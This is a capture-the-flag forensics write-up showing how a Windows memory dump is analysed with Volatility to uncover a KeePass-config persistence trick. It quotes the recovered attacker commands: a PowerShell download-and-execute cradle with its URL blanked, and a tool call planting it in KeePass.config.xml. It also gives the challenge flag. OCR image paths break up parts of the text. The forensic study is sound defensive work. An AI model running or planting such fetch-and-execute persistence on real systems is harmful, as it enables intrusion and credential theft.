Steam Door

Steam-security analysts have spotted a new unknown persistence technique used in the wild. But they are not able to understand how it works since steam-technology is involving at very fast rates. Please analyse this memory dump and find the persistence mechanism used by the malicious steam actors.
Flag format: HTB{md5sum }. For example: HTB{55e7dd3016ce4ac57b9a0f56af12f7c2}

Category: Forensics

Solver: lmarschk, mp455

Flag: HTB{db042f659831045cc3748324b481507e}


Summary: Analysis of windows memory dump and file extraction out of it.

We got a memory dump steam.raw. Using volatility 2.6.1 we analyse the memory in multiple directions. For example:

  • imageinfo: Windows Profile Win7SP1x86_23418

  • pstree:Name                                                  Pid   PPid   Thds   Hnds Time
    --- --- --- --- --- ----
    . 0x85169698:KeePass.exe                             2756   3344     10    229 2022-03-01 12:17:23 UTC+0000
    .. 0x85b31358:powershell.exe                          188   2756     13    335 2022-03-01 12:17:34 UTC+0000
  • cmdline -p 188: Command line : "C:\windows\system32\Windowspowershell\v1.0\powershell.exe" -c iex (new-object net.webclient).downloadstring('')

  • cmdscan:

    Cmd #0 @ 0x257f78: dirdownloads
    Cmd #1 @ 0x257fa0: cd downloads
    Cmd #2 @ 0x264680: .\download.exe -t keepass -c "C:\windows\system32\Windowspowershell\v1.0\powershell.exe" -a "-c iex (new-object net.webclient).downloadstring('')" -f C:\Users\steam_mngr\AppData\Roaming\KeePass\KeePass.config.xml -m add

This information already tells us a story. At some point in the past someone executed thedownload.exe with a command -c, their argument -a, a KeePass config file -f, a mode -m and a type -t. Then at the point of the memory dump KeePass was running with a powershell subprocess that is executing the mentioned argument -a. Now we can assume a story based on that: An attacker had access to this computer, downloaded the command injection tool download.exe and executed it in the KeePass mode so that the powershell command -a is injected in the KeePass.config.xml so that it is running when KeePass is running.

As we cannot find further information about the backup.ps1 let’s try to find the KeePass.config.xml. While volatilities dumpfiles plugin cannot find the file by default, the filescan plugin can.

0x000000003ef7ed58      8      0 R--r-- \Device\HarddiskVolume1\Users\steam_mngr\AppData\Roaming\KeePass\KeePass.config.xml

Having this offset dumpfiles can dump the file via dumpfiles -Q 0x000000003ef7ed58. Thisway we get the manipulated KeePass config file and find a section containing the powershell payload. We can now calculate the md5sum ofthe config file (Do notremove any of the many null bytes at the end of the file!) and get the Flag:HTB{db042f659831045cc3748324b481507e}